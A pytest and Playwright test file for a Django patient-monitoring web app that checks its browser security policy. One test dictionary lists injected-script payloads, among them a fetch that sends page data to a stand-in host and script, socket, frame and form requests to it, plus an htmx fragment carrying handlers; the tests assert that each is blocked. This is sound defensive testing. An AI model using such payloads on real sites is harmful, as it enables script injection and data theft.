"""A browser walks through every page: none wants what its policy forbids, and what an intruder would want is forbidden.

Every test here, as every other with a browser, fails on a violation: see conftest.py.
"""

from __future__ import annotations

from concurrent.futures import ThreadPoolExecutor
from datetime import timedelta

import pytest
from django.contrib import admin
from django.db import connections
from django.urls import NoReverseMatch, reverse
from playwright.sync_api import Browser, Page, expect

from monitoring.models import Admission, Patient
from tests.admin.pages import address
from tests.admin.test_pages import NOUNS
from tests.browser.conftest import FORBIDDEN
from tests.browser.desk import Desk, send
from tests.busy import everything_happens
from tests.conftest import PASSWORD, signed_in
from tests.doors.addresses import every_address
from tests.live.processes import Server, running
from tests.pages.test_notices import VAPID
from tests.world import item

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]


@pytest.fixture
def server():
    with running() as server:
        yield server


@pytest.fixture
def busy_ward(ada, ben, monitor, noor, root, now):
    """In a thread: this one has a browser's loop running, in which nobody can post."""

    def busy():
        everything_happens(ada, ben, monitor, noor, root, now)
        connections.close_all()

    with ThreadPoolExecutor(1) as pool:
        pool.submit(busy).result()


def seat(browser: Browser, server: Server, person, **wanted) -> Page:
    """The browser of somebody who has signed in."""
    context = browser.new_context(**wanted)
    if person:
        key = signed_in(person).cookies["sessionid"].value
        context.add_cookies([{"name": "sessionid", "value": key, "url": server.url}])
    page = context.new_page()
    return page


def visit(page: Page, server: Server, path: str) -> None:
    answer = page.goto(server.url + path)
    assert answer is not None
    assert answer.status < 500, path
    assert "default-src 'none'" in answer.headers["content-security-policy"]
    page.wait_for_load_state("networkidle")


class TestPages:
    def test_a_board_calm_and_alarming_with_its_menu_open(self, browser, server, noor, ada, gateway, now):
        nurse = Desk(browser, server).sign_in("noor")
        send(server, gateway, item(ada, now, heart_rate=72, spo2=97))
        expect(nurse.tile("N1").locator(".heart_rate .value")).to_have_text("72")

        send(server, gateway, item(ada, now + timedelta(seconds=1), spo2=80))

        alert = nurse.tile("N1").locator(".alert").first
        expect(alert).to_contain_text("SpO₂ 80 < 85 %")
        nurse.menu(alert)
        alert.locator(".acknowledge").first.click()
        expect(alert.locator(".acknowledge")).to_be_hidden()
        assert nurse.complaints == []

    @pytest.mark.parametrize("login", ["noor", "root"])
    def test_every_page_outside_of_the_administration(self, browser, server, noor, root, ada, login):
        page = seat(browser, server, {"noor": noor, "root": root}[login])
        shown = [path for path in every_address() if not path.startswith(("/admin/", "/api/", "/auth/", "/metrics"))]
        shown = [path for path in shown if not path.endswith(".pdf")]  # which chromium keeps, and shows to nobody here
        # A 405 without a word is no page: chromium shows one of its own instead.
        shown = [path for path in shown if page.request.get(server.url + path).status != 405]
        for path in shown:
            visit(page, server, path)
        assert {"/", "/wards/north/", "/notices/", "/accounts/me/", "/accounts/second-factor/"} <= set(shown)

    def test_the_way_in(self, browser, server, noor):
        page = seat(browser, server, None)
        visit(page, server, "/accounts/login/")
        page.get_by_label("Login or e-mail").fill("noor")
        page.get_by_label("Password").fill("not the password")
        page.get_by_role("button", name="Sign in").click()

        expect(page.get_by_role("alert").first).to_be_visible()
        visit(page, server, "/admin/login/")

    def test_a_form_whose_token_is_gone(self, browser, server, noor):
        page = seat(browser, server, None)
        visit(page, server, "/accounts/login/")
        page.get_by_label("Login or e-mail").fill("noor")
        page.get_by_label("Password").fill(PASSWORD)
        page.context.clear_cookies()

        page.get_by_role("button", name="Sign in").click()

        expect(page.get_by_role("alert")).to_have_text("This page is out of date: load it again, and press once more.")
        expect(page.locator("footer")).to_contain_text("not a medical device")

    def test_a_browser_lets_itself_be_called(self, browser, noor):
        """The worker begins under its policy. (What a push service says is beyond this test.)"""
        with running(VAPID_PRIVATE_KEY=VAPID, VAPID_SUBJECT="mailto:it@example.org") as server:
            page = seat(browser, server, noor, permissions=["notifications"])
            visit(page, server, "/notices/")

            page.get_by_role("button", name="Let this browser call me").click()

            page.wait_for_function("async () => (await navigator.serviceWorker.getRegistrations()).length === 1")


class TestAdministration:
    def test_lists_and_forms(self, browser, server, root, busy_ward):
        page = seat(browser, server, root)
        for noun in NOUNS:
            row = noun._default_manager.first()
            for path in [address(noun), address(noun, "add"), address(noun, "change", row.pk)]:
                visit(page, server, path)

    def test_its_other_pages(self, browser, server, root, busy_ward):
        page = seat(browser, server, root)
        for name in ("index", "password_change", "jsi18n"):
            visit(page, server, reverse(f"admin:{name}"))
        visit(page, server, "/load/")
        for path in (f"{address(Patient)}?q=x", address(Patient, "history", Patient.objects.first().pk)):
            visit(page, server, path)

    def test_dates_choices_and_lines_that_scripts_draw(self, browser, server, root, busy_ward):
        page = seat(browser, server, root)
        visit(page, server, address(Patient, "change", Patient.objects.first().pk))
        page.locator("#thresholds-group .add-row a").click()
        visit(page, server, address(Admission, "add"))
        page.locator(".datetimeshortcuts a").first.click()
        for opener in page.locator(".date-icon, .clock-icon").all():
            opener.click()
            page.keyboard.press("Escape")
        for choice in page.locator(".select2-selection").all():
            choice.click()
            expect(page.locator(".select2-results__option").first).to_be_visible()
            page.keyboard.press("Escape")


MADE = "const made = (name, told) => document.body.append(Object.assign(document.createElement(name), told)); "
INTRUSIONS = {
    "an inline script": "made('script', {text: 'window.ran = 1'})",
    "HTML that a script writes": "document.body.innerHTML = '<img src=x>'",
    "an inline style": "made('style', {textContent: 'body {color: red}'})",
    "a style of an element": "document.body.setAttribute('style', 'color: red')",
    "a script from elsewhere": "made('script', {src: 'http://203.0.113.7/'})",
    "a text that is run": "window.ran = new Function('return 1')()",
    "what was seen, sent elsewhere": "fetch('http://203.0.113.7/?seen=1').catch(() => {})",
    "a socket to elsewhere": "new WebSocket('ws://203.0.113.7/')",
    "a picture from elsewhere": "new Image().src = 'http://203.0.113.7/'",
    "a frame": "made('iframe', {src: 'http://203.0.113.7/'})",
    "another base": "made('base', {href: 'http://203.0.113.7/'})",
    "a form sent elsewhere": "const form = Object.assign(document.createElement('form'), {action: 'http://203.0.113.7/'});"
    "document.body.append(form); form.submit()",
}


def leave(page: Page, forbidden: list[str]) -> None:
    """With all that the browser still had to say of it."""
    page.goto("about:blank")
    forbidden.clear()


def test_what_an_intruder_would_want_is_forbidden(browser, server, noor, ada, forbidden):
    page = Desk(browser, server).sign_in("noor").page
    for wanted, deed in INTRUSIONS.items():
        with page.expect_console_message(lambda said: any(words in said.text for words in FORBIDDEN)):
            # Later, since what a test itself evaluates may evaluate.
            page.evaluate(f"() => setTimeout(() => {{ {MADE} {deed} }})")
        assert page.evaluate("window.ran") is None, wanted
        assert forbidden, wanted
        forbidden.clear()
    leave(page, forbidden)


@pytest.mark.parametrize("name", ["mine", "htmx"])
def test_nobody_gives_himself_leave_to_write_html(browser, server, noor, ada, forbidden, name):
    page = Desk(browser, server).sign_in("noor").page

    refused = page.evaluate("name => { try { trustedTypes.createPolicy(name, {}) } catch (fault) { return fault.name } }", name)

    assert refused == "TypeError"
    leave(page, forbidden)


def test_what_comes_in_a_fragment_is_drawn_and_not_run(browser, server, noor, ada, forbidden):
    nurse = Desk(browser, server).sign_in("noor")
    fragment = "<p id='evil' hx-on:click='window.ran = 1' hx-on:htmx:load='window.ran = 1'>x</p><script>window.ran = 1</script>"

    nurse.page.evaluate("text => htmx.swap({target: '.who', swap: 'innerHTML', text}).catch(() => {})", fragment)
    nurse.page.locator("#evil").click()

    assert nurse.page.evaluate("window.ran") is None
    leave(nurse.page, forbidden)


def test_no_page_may_be_framed(browser, server, noor, ada):
    answer = seat(browser, server, noor).goto(f"{server.url}/")

    assert answer.headers["x-frame-options"] == "DENY"
    assert "frame-ancestors 'none'" in answer.headers["content-security-policy"]


def test_every_noun_of_the_administration_is_walked():
    def has_pages(noun):
        try:
            return bool(address(noun))
        except NoReverseMatch:
            return False

    assert {noun for noun in admin.site._registry if has_pages(noun)} >= set(NOUNS)
